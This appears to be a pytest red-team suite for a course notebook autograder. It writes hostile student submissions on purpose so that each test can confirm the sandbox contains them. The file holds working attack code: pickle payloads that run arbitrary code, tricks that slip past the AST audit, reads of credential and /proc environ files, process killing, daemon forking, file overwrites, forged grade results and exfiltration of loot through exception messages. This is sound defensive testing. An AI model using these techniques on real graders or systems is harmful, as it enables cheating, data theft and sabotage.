"""Red team: hostile hand-ins against the grader, and the sandbox alone against its escapes.

Every kind of attack a lecturer used on the grader (issue 26) is built as a real submission:
the student notebook of lesson 06 with a hostile solution cell for exercise 1. The AST audit
is a course rule, not the security boundary, so these cells are written to *pass* it
(``from collections import _sys``, ``match``/``case`` class patterns, pickles in bytes
literals, NumPy's private modules and file readers); what must hold is the operating system's
sandbox (:mod:`trainlab.checks.isolation`). Each attack, once it has what it wanted, tries to
exfiltrate it through an exception message, which ends in the feedback. The class run asserts:
0 marks for every hostile hand-in, every honest student's marks unchanged, nothing written
outside the sandbox (a canary beside the submissions, a classmate's hand-in, ``marks.csv``
after the run), no process left alive, no ``trainlab-grade-*`` folder left, and neither the
grader's secret environment variable nor a secret file in the repository in any output.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import pickle
import secrets
import sys
import tempfile
import time
from pathlib import Path

import nbformat
import numpy as np
import pytest

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "scripts"))
import homework  # noqa: E402
from trainlab.checks import grading, isolation  # noqa: E402

pytestmark = pytest.mark.skipif(bool(isolation.problem()),
                                reason=f"no sandbox here: {isolation.problem()}")
LESSON = ROOT / "notebooks" / "06_dropout.ipynb"
EX1 = "06-ex1-solution"
CORRECT = ('    keep_prob = dropout_param["keep_prob"]\n'
           '    if dropout_param["mode"] == "eval":\n'
           '        return x, (None, keep_prob)\n'
           '    rng = np.random.default_rng(dropout_param.get("seed"))\n'
           '    mask = rng.random(x.shape) < keep_prob\n'
           '    return x * mask / keep_prob, (mask, keep_prob)\n')
IDENTITY = '    return x, (None, dropout_param["keep_prob"])\n'
"""A wrong answer (no dropout in training) that a forged check would have to pass."""


def _notebook(replacements: dict[str, str], base: str = "student") -> nbformat.NotebookNode:
    path = LESSON if base == "lesson" else ROOT / "notebooks" / "student" / LESSON.name
    nb = nbformat.read(path, as_version=4)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in replacements:
            cell.source = replacements[gid]
    return nb


def _grade(nb: nbformat.NotebookNode, timeout: float = 20.0, **kw) -> grading.Submission:
    data = json.loads(nbformat.writes(nb))
    return grading.grade_notebook(data, grading.load_lesson(LESSON), "t", "t.ipynb", timeout,
                                  **kw)


def _scores(sub: grading.Submission) -> dict[str, float]:
    return {q.qid: q.score for q in sub.questions}


class _Exploit:
    """A pickle that runs ``code`` when loaded (the payload of the bytes-literal attacks)."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return exec, (self.code, {})


def _npy_with_pickle(code: str) -> bytes:
    """A .npy file of dtype object whose data is a pickle that runs ``code``."""
    import io

    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        buf, np.lib.format.header_data_from_array_1_0(np.empty(1, dtype=object)))
    return buf.getvalue() + pickle.dumps(_Exploit(code), protocol=3)


# What an attacker does once it holds the os module (bound to the name ``o``): every harm the
# issue reports, then the loot raised so that it lands in the feedback.
HARM = '''
loot = []
for target in TARGETS:
    try:
        loot.append(str(o.read(o.open(target, 0), 4000)))
    except BaseException as exc:
        loot.append(type(exc).__name__)
pids = [o.getppid(), GRADER] + [int(p) for p in o.listdir("/proc") if p.isdigit()]
for pid in [p for p in pids if p != o.getpid()]:
    for sig in (19, 9):
        try:
            o.kill(pid, sig)
        except BaseException as exc:
            loot.append(type(exc).__name__)
try:
    if o.fork() == 0:
        o.setsid()
        while True:
            try:
                o.write(o.open(MARKS, 577), b"student,total\\nmallory,100\\n")
            except BaseException:
                pass
except BaseException as exc:
    loot.append(type(exc).__name__)
for victim in (CLASSMATE, CANARY):
    try:
        o.write(o.open(victim, 577), b"overwritten")
    except BaseException as exc:
        loot.append(type(exc).__name__)
loot.append(repr(dict(o.environ)))
'''


def _prelude(paths: dict[str, str]) -> str:
    return "".join(f"{k} = {v!r}\n" for k, v in paths.items())


def _grab(obj: str, attr: str, name: str) -> str:
    """Top-level code binding ``name`` to ``obj.attr`` through a class pattern: a keyword
    pattern is no attribute access, so the audit, which refuses ``obj._private`` and
    ``from numpy import fromfile``, does not see it."""
    return f"match {obj}:\n    case object({attr}={name}):\n        pass\n"


IMPORT = (_grab("(lambda: 0)", "__globals__", "g") +
          "b = [v for k, v in g.items() if k.endswith('builtins_' + '_')][0]\n" +
          _grab("b", "__import__", "imp"))
"""Top-level code binding ``imp`` to the builtin ``__import__`` (the match-case route)."""
AUDIT_CLOSED = {"from-import": "imports `_sys`"}
"""Attacks whose route the audit now closes (it refuses importing a private name): still
handed in, refused before they run; the same harm through another route runs in the sandbox."""


def _attacks(paths: dict[str, str]) -> dict[str, str]:
    """Hostile solution cells for 06 ex1, by kind (each but AUDIT_CLOSED passes today's audit
    on purpose)."""
    head = _prelude(paths)
    harm = HARM.replace("\n", "\n    ")
    fn = "def dropout_forward(x, dropout_param):\n"
    pickled = _npy_with_pickle(
        "import os as o\n" + _prelude(paths) + HARM + "\nraise RuntimeError(repr(loot))\n")
    reader = (
        "class F:\n    def __init__(self, data):\n        self.data, self.at = data, 0\n"
        "    def read(self, n=-1):\n        n = len(self.data) - self.at if n < 0 else n\n"
        "        self.at += n\n        return self.data[self.at - n:self.at]\n"
        "    def readline(self, n=-1):\n        end = self.data.index(b'\\n', self.at) + 1\n"
        "        out, self.at = self.data[self.at:end], end\n        return out\n"
        "    def seek(self, at, whence=0):\n"
        "        self.at = at + (self.at if whence == 1 else 0)\n        return self.at\n"
        "    def tell(self):\n        return self.at\n"
        f"PAYLOAD = {pickled!r}\n")
    return {
        "from-import": head + "from collections import _sys\n" + fn +
        "    o = _sys.modules['os']\n" + "    " + harm + "\n    raise RuntimeError(loot)\n",
        "match-case": head + fn +
        "    match (lambda: 0):\n        case object(__globals__=g):\n            pass\n"
        "    b = [v for k, v in g.items() if k.endswith('builtins_' + '_')][0]\n"
        "    match b:\n        case object(__import__=imp):\n            pass\n"
        "    o = imp('os')\n    " + harm + "\n    raise RuntimeError(loot)\n",
        "pickle-read_array": head + reader + fn +
        "    return np.lib.format.read_array(F(PAYLOAD), allow_pickle=True)\n",
        "private-via-pattern": head + "import collections\n" +
        _grab("collections", "_sys", "s") + fn + "    o = s.modules['os']\n" + "    " + harm +
        "\n    raise RuntimeError(loot)\n",
        "pickle-private-npyio": head + _grab("np.lib", "_npyio_impl", "m") +
        _grab("m", "load", "ld") + reader + fn +
        "    return ld(F(PAYLOAD), allow_pickle=True)\n",
        "ctypes-via-numpy": head + _grab("np", "_core", "core") + _grab("core", "_internal", "i") +
        _grab("i", "ctypes", "c") + fn +
        "    libc = c.CDLL(None)\n    status = libc.system(b'touch ' + CANARY.encode())\n"
        "    pids = [libc.kill(p, 9) for p in (GRADER, 1)]\n"
        "    raise RuntimeError(f'system={status} kill={pids}')\n",
        "numpy-file-readers": head + "import numpy.ma.core\nimport numpy.ma.mrecords\n" +
        _grab("np", "fromfile", "fromfile") + _grab("numpy.ma.mrecords", "openfile", "openfile") +
        _grab("numpy.ma.core", "inspect", "inspect") + fn +
        "    got = []\n    for t in TARGETS:\n"
        "        for read in (lambda p: openfile(p).read(), lambda p: fromfile(p, np.uint8)"
        ".tobytes(), lambda p: ''.join(inspect.linecache.getlines(p))):\n"
        "            try:\n                got.append(str(read(t)))\n"
        "            except BaseException as exc:\n                got.append(repr(exc))\n"
        "    raise RuntimeError(got)\n",
        "always-true-eq": "class Yes:\n    def __eq__(self, other):\n        return True\n"
        "    def __array__(self, *a, **k):\n        return self\n" + fn +
        "    return Yes(), Yes()\n",
        "patch-showtraceback": "try:\n    get_ipython().showtraceback = lambda *a, **k: None\n"
        "except NameError:\n    pass\n" + fn + IDENTITY,
        "rebind-allclose": "np.allclose = lambda *a, **k: True\nnp.array_equal = np.allclose\n"
        "np.isclose = lambda *a, **k: True\n" + fn + IDENTITY,
        "forge-results": head + IMPORT + "o = imp('os')\n"
        "for name in ('results.json', 'marks.csv', MARKS, RESULTS):\n    try:\n"
        "        o.write(o.open(name, 577), b'forged')\n    except BaseException:\n"
        "        pass\nprint('\\u2713 Exercise: all checks passed')\n" + fn + IDENTITY,
        "stop-itself": IMPORT + "o = imp('os')\n" + fn +
        "    o.kill(o.getpid(), 19)\n" + CORRECT,
        "endless-loop": fn + CORRECT + "while True:\n    pass\n",
        "4x400MB": fn + "    return [np.zeros(50_000_000) for _ in range(4)]\n",
    }


def _write(nb: nbformat.NotebookNode, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _tagged_processes(tag: str) -> list[int]:
    alive = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if tag.encode() in (entry / "environ").read_bytes():
                    alive.append(int(entry.name))
            except OSError:
                pass
    return alive


@pytest.mark.slow
def test_a_class_with_every_attack_is_graded_and_nothing_escapes(tmp_path, monkeypatch):
    token = secrets.token_hex(16)
    secret_file = ROOT / f".redteam-secret-{token[:8]}"
    secret_file.write_text(f"repo secret {token}", encoding="utf-8")
    monkeypatch.setenv("TRAINLAB_REDTEAM_SECRET", f"env secret {token}")
    tag = secrets.token_hex(8)
    monkeypatch.setenv("TRAINLAB_SANDBOX_TAG", tag)
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    try:
        inbox, out = tmp_path / "class", tmp_path / "graded"
        canary = tmp_path / "canary.txt"
        canary.write_text("untouched", encoding="utf-8")
        classmate = inbox / "alice" / "06_dropout.ipynb"
        _write(_notebook({}, base="lesson"), classmate)
        _write(_notebook({}, base="lesson"), inbox / "bob" / "hw.ipynb")
        paths = {"TARGETS": [str(secret_file), str(classmate), "/proc/1/environ",
                             f"/proc/{os.getpid()}/environ", "/etc/passwd"],
                 "GRADER": os.getpid(), "MARKS": str(out / "marks.csv"),
                 "RESULTS": str(out / "results.json"), "CLASSMATE": str(classmate),
                 "CANARY": str(canary)}
        attacks = _attacks(paths)
        for kind, cell in attacks.items():
            _write(_notebook({EX1: cell}), inbox / f"mallory-{kind}" / "hw.ipynb")
        before = {p: _digest(p) for p in (canary, classmate)}
        start = time.monotonic()
        # 45 s per exercise: 06 ex5 trains the network 8 times (about 1.6 s of CPU); on a
        # loaded machine with two graders at once that took over 10 s of wall time
        assert homework.main(["grade", str(inbox), "--out", str(out), "--workers", "2",
                              "--timeout", "45"]) == 0
        took = time.monotonic() - start
        marks = (out / "marks.csv").read_text(encoding="utf-8")
        time.sleep(2)  # a daemon would rewrite marks.csv now
        assert (out / "marks.csv").read_text(encoding="utf-8") == marks
        assert {p: _digest(p) for p in before} == before
        assert not _tagged_processes(tag)
        assert list(scratch.iterdir()) == []
        rows = {r["student"]: r for r in csv.DictReader(marks.removeprefix("\ufeff").splitlines())}
        rows.pop(homework.MAX_ROW)
        full = sum(q.points for q in grading.load_lesson(LESSON).questions if not q.manual)
        assert float(rows["alice"]["total"]) == full and float(rows["bob"]["total"]) == full
        for kind in attacks:
            row = rows[f"mallory-{kind}"]
            assert float(row["total"]) == 0, (kind, row)
            assert "grader error" not in row["errors"]
        everything = "".join(p.read_text(encoding="utf-8", errors="replace")
                             for p in out.rglob("*") if p.is_file())
        assert token not in everything
        results = {r["student"]: r for r in json.loads((out / "results.json").read_text())}
        for kind, why in AUDIT_CLOSED.items():
            first = results[f"mallory-{kind}"]["questions"][0]["parts"][0]
            assert first["status"] == "refused" and why in first["message"], (kind, first)
        for kind in set(attacks) - set(AUDIT_CLOSED):  # the others ran, in the sandbox
            assert all(p["status"] != "refused"
                       for p in results[f"mallory-{kind}"]["questions"][0]["parts"]), kind
        for kind in ("private-via-pattern", "match-case", "pickle-read_array",
                     "pickle-private-npyio"):
            ran = results[f"mallory-{kind}"]["questions"][0]["parts"][0]["message"]
            assert "BlockingIOError" in ran and "ProcessLookupError" in ran, (kind, ran)
        shell = results["mallory-ctypes-via-numpy"]["questions"][0]["parts"][0]["message"]
        assert "system=" in shell and "kill=[-1" in shell, shell  # no shell; no grader to kill
        loop = results["mallory-endless-loop"]["questions"][0]
        assert "time limit" in loop["parts"][0]["message"]
        big = results["mallory-4x400MB"]["questions"][0]
        assert "MiB" in big["parts"][0]["message"]
        assert took < 240, f"the class took {took:.0f} s"
    finally:
        secret_file.unlink()


# --------------------------------------------------------------------------------------------
# The sandbox alone: what the learner's code can reach with no audit at all
# --------------------------------------------------------------------------------------------
PROBE = '''import sys
sys.meta_path[:] = [m for m in sys.meta_path if type(m).__name__ != "_Blocker"]
import os, socket, json
def probe(secret_path, grader_pid, canary):
    seen = {"uid": os.getuid(), "root": sorted(os.listdir("/")), "env": dict(os.environ),
            "cwd": os.getcwd(), "work": os.listdir(".")}
    for key, act in {
        "read_secret": lambda: open(secret_path).read(),
        "read_grader_env": lambda: open(f"/proc/{grader_pid}/environ").read(),
        "init_env": lambda: open("/proc/1/environ").read(),
        "write_canary": lambda: open(canary, "w").write("x"),
        "write_numpy": lambda: open("/sandbox/numpy/x.py", "w").write("x"),
        "signal_grader": lambda: os.kill(grader_pid, 0),
        "fork": lambda: os.fork(),
        "network": lambda: socket.create_connection(("1.1.1.1", 80), timeout=2),
        "big_file": lambda: open("big", "wb").write(b"x" * 2**21),
        "home": lambda: os.listdir(os.path.expanduser("~")),
    }.items():
        try:
            value = act()
            if key == "fork" and value == 0:
                os._exit(0)
            seen[key] = "DID: " + str(value)[:200]
        except BaseException as exc:
            seen[key] = "refused: " + type(exc).__name__
    return json.dumps(seen)
'''


def test_the_sandbox_alone_holds_with_no_audit(tmp_path, monkeypatch):
    token = secrets.token_hex(16)
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(token, encoding="utf-8")
    monkeypatch.setenv("TRAINLAB_REDTEAM_SECRET", token)
    canary = tmp_path / "canary.txt"
    sandbox = grading.Sandbox([{"qid": "x", "source": PROBE}], deadline=time.monotonic() + 30)
    try:
        assert sandbox.errors == {}
        seen = json.loads(sandbox.call("probe", (str(secret_file), os.getpid(), str(canary)),
                                       {}))
    finally:
        sandbox.close()
    assert token not in json.dumps(seen)
    assert seen["uid"] == isolation.UID and seen["cwd"] == "/work"
    assert set(seen["root"]) <= {"dev", "proc", "work", "sandbox", "usr", "lib", "lib64", "etc",
                                 "root", "home", "opt"}
    assert set(seen["env"]) <= {"HOME", "PATH", "LC_ALL", "OMP_NUM_THREADS", "PWD",
                                "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS"}
    refused = ("read_secret", "read_grader_env", "write_canary", "write_numpy", "signal_grader",
               "fork", "network", "big_file")
    assert {k: seen[k][:8] for k in refused} == {k: "refused:" for k in refused}, seen
    assert not canary.exists()


def test_the_seccomp_program_is_well_formed():
    for machine in ("x86_64", "aarch64"):
        program = isolation.seccomp_filter(machine)
        assert program and len(program) % 8 == 0
    assert isolation.seccomp_filter("sparc") is None


# --------------------------------------------------------------------------------------------
# Per-exercise deadlines, bounded replies, dependencies
# --------------------------------------------------------------------------------------------
def test_an_endless_loop_zeroes_only_its_exercise():
    loop_in_call = ("def dropout_backward(dout, cache):\n"
                    "    while True:\n        pass\n")
    loop_at_top = "def expected_loss(*a):\n    return 0\nwhile True:\n    pass\n"
    sub = _grade(_notebook({"06-ex2-solution": loop_in_call, "06-ex3-solution": loop_at_top},
                           base="lesson"), timeout=20)  # 06 ex5 trains 8 times: > 6 s loaded
    scores = _scores(sub)
    assert scores["06-ex2"] == 0 and scores["06-ex3"] == 0
    points = {q.qid: q.points for q in sub.questions if not q.manual}
    assert all(scores[k] == points[k] for k in points if k not in ("06-ex2", "06-ex3"))
    assert all("time limit" in p.message for q in sub.questions[1:3] for p in q.parts)


def test_a_huge_return_value_is_refused_with_a_message_and_never_reaches_the_grader():
    import resource

    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    sub = _grade(_notebook({EX1: "def dropout_forward(x, dropout_param):\n"
                                 "    return [np.zeros(50_000_000) for _ in range(4)]\n"},
                           base="lesson"))
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak
    q = sub.questions[0]
    assert q.score == 0 and all("64 MiB" in p.message for p in q.parts)
    assert grown < 300 * 1024, f"the grader grew by {grown / 1024:.0f} MB"
    assert all(x.score == x.points for x in sub.questions[1:] if not x.manual)
    assert [x.qid for x in sub.questions if x.manual] == ["06-ex6-written"]


def test_a_refused_exercise_costs_only_itself_when_another_depends_on_it():
    lesson = grading.Lesson(
        stem="toy", setup="", library_names=(),
        questions=[
            grading.Question("t-ex1", 1, "", ["double"],
                             [grading.Part("a", "assert double(np.ones(2)).sum() == 4", False, 1)],
                             "t-ex1-solution"),
            grading.Question("t-ex2", 1, "", ["quad"],
                             [grading.Part("b", "assert quad(np.ones(2)).sum() == 8", False, 1)],
                             "t-ex2-solution")],
        references={"t-ex1": "def double(x):\n    return 2 * x\n",
                    "t-ex2": "def quad(x):\n    return double(double(x))\n"})
    assert lesson.dependencies(lesson.questions[1]) == ["t-ex1"]
    nb = {"cells": [
        {"cell_type": "code", "source": "import torch\ndef double(x):\n    return x\n",
         "metadata": {"nbgrader": {"solution": True, "grade_id": "t-ex1-solution"}}},
        {"cell_type": "code", "source": "def quad(x):\n    return double(double(x))\n",
         "metadata": {"nbgrader": {"solution": True, "grade_id": "t-ex2-solution"}}}]}
    sub = grading.grade_notebook(nb, lesson, timeout=20)
    assert _scores(sub) == {"t-ex1": 0, "t-ex2": 1}
    assert sub.questions[0].parts[0].status == "refused"


def test_the_capstone_training_depends_on_the_parts_it_builds_on():
    """08 ex7 (train_capstone) trains a FullyConnectedNet (ex4: its layers ex1, its loss ex2)
    with the Solver (ex6, its update rules ex3); the gradient check (ex5) is not used."""
    lesson = grading.load_lesson(ROOT / "notebooks" / "08_capstone.ipynb")
    deps = {q.qid: lesson.dependencies(q) for q in lesson.questions if not q.manual}
    assert deps["08-ex7"] == ["08-ex1", "08-ex2", "08-ex3", "08-ex4", "08-ex6"]
    assert deps["08-ex6"] == ["08-ex1", "08-ex2", "08-ex3", "08-ex4"]
    assert deps["08-ex4"] == ["08-ex1", "08-ex2"]
    assert all(deps[f"08-ex{i}"] == [] for i in (1, 2, 3, 5))


# --------------------------------------------------------------------------------------------
# Hidden cases from the lecturer's secret
# --------------------------------------------------------------------------------------------
def _answer_table_cell() -> str:
    """An answer table computed off-line from the public seeds: 06 ex1's outputs for every
    input its checks (visible and hidden) draw, looked up by the inputs."""
    lesson = grading.load_lesson(LESSON)
    space: dict = {"np": np}
    exec(lesson.setup, space)  # noqa: S102
    exec(lesson.references["06-ex1"], space)  # noqa: S102
    reference, table = space["dropout_forward"], {}

    def recording(x, dropout_param):
        out, cache = reference(x, dropout_param)
        key = f"{x.shape}|{float(x.sum())!r}|{sorted(dropout_param.items())!r}"
        table[key] = (list(out.shape), [float(v) for v in out.ravel()])
        return out, cache

    space["dropout_forward"] = recording
    for part in lesson.questions[0].parts:
        exec(part.code, space)  # noqa: S102
    return (f"TABLE = {table!r}\n\ndef dropout_forward(x, dropout_param):\n"
            "    key = f'{x.shape}|{float(x.sum())!r}|{sorted(dropout_param.items())!r}'\n"
            "    shape, values = TABLE[key]\n"
            "    return np.array(values).reshape(shape), None\n")


def test_an_answer_table_from_the_public_seeds_fails_the_secret_hidden_cases():
    nb = _notebook({EX1: _answer_table_cell()}, base="lesson")
    public = _grade(nb).questions[0]
    assert public.score == public.points  # why the secret is needed
    secret = secrets.token_bytes(32)
    q = _grade(nb, secret=secret).questions[0]
    assert [p.status for p in q.parts] == ["passed", "failed", "failed"]
    assert all(p.message == grading.WITHHELD for p in q.parts if p.hidden)
    shown = _grade(nb, secret=secret, show_hidden_inputs=True).questions[0]
    assert all("KeyError" in p.message for p in shown.parts if p.hidden)
    honest = _grade(_notebook({}, base="lesson"), secret=secret)
    assert honest.score == honest.max_score and honest.hidden_cases == "secret"


def test_secret_seeds_depend_on_the_secret_lesson_question_and_seed():
    s = secrets.token_bytes(32)
    seeds = {grading.secret_seed(s, "06_dropout", "06-ex1", 3),
             grading.secret_seed(s, "06_dropout", "06-ex1", 8),
             grading.secret_seed(s, "06_dropout", "06-ex2", 3),
             grading.secret_seed(s, "04_batchnorm", "06-ex1", 3),
             grading.secret_seed(secrets.token_bytes(32), "06_dropout", "06-ex1", 3)}
    assert len(seeds) == 5 and all(0 <= v < 2**31 for v in seeds)
    assert grading.secret_seed(s, "a", "b", 1) == grading.secret_seed(s, "a", "b", 1)
    code = grading._with_secret_seeds("for k in range(3):\n    c.check(f, seed=k, n=2)")
    assert "seed=_hidden_seed(k)" in code and "n=2" in code


def test_the_cli_reads_the_secret_and_refuses_a_short_one(tmp_path, monkeypatch, capsys):
    short = tmp_path / "short"
    short.write_text("abc\n", encoding="utf-8")
    with pytest.raises(ValueError, match="3 bytes long; use at least 16"):
        homework.read_secret(short)
    monkeypatch.setenv(homework.SECRET_ENV, "x" * 20)
    assert homework.read_secret(None) == b"x" * 20
    monkeypatch.delenv(homework.SECRET_ENV)
    assert homework.read_secret(None) is None
    (tmp_path / "in").mkdir()
    assert homework.main(["grade", str(tmp_path / "in"), "--out", str(tmp_path / "o")]) == 0
    assert "hidden cases are the public ones" in capsys.readouterr().err


def test_without_the_sandbox_the_grader_refuses_unless_told_unsafe(tmp_path, monkeypatch,
                                                                      capsys):
    monkeypatch.setattr(isolation, "problem", lambda: "`bwrap` is not installed (test)")
    (tmp_path / "in").mkdir()
    _write(_notebook({}), tmp_path / "in" / "a.ipynb")
    assert homework.main(["grade", str(tmp_path / "in"), "--out", str(tmp_path / "o")]) == 2
    err = capsys.readouterr().err
    assert "refusing to grade" in err and "bwrap" in err and "--unsafe" in err
    assert not (tmp_path / "o" / "marks.csv").exists()
    with pytest.raises(grading.IsolationUnavailable):
        grading.Sandbox([], deadline=time.monotonic() + 5)
    assert homework.main(["grade", str(tmp_path / "in"), "--out", str(tmp_path / "o"),
                          "--unsafe", "--workers", "1"]) == 0
    assert "WITHOUT the operating system's sandbox" in capsys.readouterr().err


@pytest.mark.parametrize("lesson", homework.graded_lessons(), ids=lambda p: p.stem)
def test_the_references_pass_hidden_cases_drawn_from_any_secret(lesson):
    """The checks must be well posed for every seed a secret can give (tried: 40 random
    secrets per hidden case, all passed; here five fixed ones, run in-process for speed)."""
    import contextlib
    import io
    import math

    parsed = grading.load_lesson(lesson)
    for q in parsed.questions:
        if q.manual:  # a written answer: prose, no reference code and no checks
            assert not q.parts and q.qid not in parsed.references
            continue
        hidden = [p for p in q.parts if p.hidden and "seed" in p.code]
        space: dict = {"np": np, "math": math}
        exec(parsed.setup, space)  # noqa: S102 - the committed lesson
        space["passed"] = lambda *a, **k: None
        for qid in [*parsed.dependencies(q), q.qid]:
            exec(parsed.references[qid], space)  # noqa: S102
        for k in range(5):
            secret = hashlib.sha256(f"term {k}".encode()).digest()
            space["_hidden_seed"] = lambda seed, s=secret, qid=q.qid: grading.secret_seed(
                s, parsed.stem, qid, seed)
            for part in hidden:
                with contextlib.redirect_stdout(io.StringIO()):
                    exec(grading._with_secret_seeds(part.code), dict(space))  # noqa: S102


def test_only_an_untouched_stub_is_graded_without_a_sandbox():
    """Every released stub is recognised (no child started for it); anything else runs. A
    written answer is prose, never run: released, it holds only nbgrader's YOUR ANSWER HERE."""
    for path in sorted((ROOT / "notebooks" / "student").glob("0*.ipynb")):
        nb = nbformat.read(path, as_version=4)
        cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")]
        code = [c for c in cells if not grading.is_written(c)]
        assert code and all(c.cell_type == "code" for c in code), path.name
        assert all(grading._is_stub(c.source) for c in code), path.name
        written = [c for c in cells if grading.is_written(c)]
        assert all(c.source.strip() == grading.WRITTEN_STUB for c in written), path.name
        assert set(grading.written_answers(nb).values()) <= {""}, path.name
    assert not grading._is_stub("def f(x):\n    raise NotImplementedError\nprint(1)\n")
    assert not grading._is_stub("def f(x):\n    '''doc'''\n    return x\n")
    assert not grading._is_stub("def f(x):\n    raise ValueError('x')\n")
    assert not grading._is_stub("") and not grading._is_stub("def f(:\n")
    stub_class = ("class Net:\n    'doc'\n\n    def __init__(self, n):\n"
                  "        raise NotImplementedError('write it')\n\n    def loss(self, X):\n"
                  "        'doc'\n        raise NotImplementedError\n")
    assert grading._is_stub(stub_class)
    assert not grading._is_stub(stub_class + "\n    size = 3\n")
    assert not grading._is_stub(stub_class.replace("class Net:", "class Net(dict):"))
    assert not grading._is_stub(stub_class.replace("        raise NotImplementedError\n",
                                                   "        return X\n"))
    assert not grading._is_stub("class Net:\n    'doc'\n")
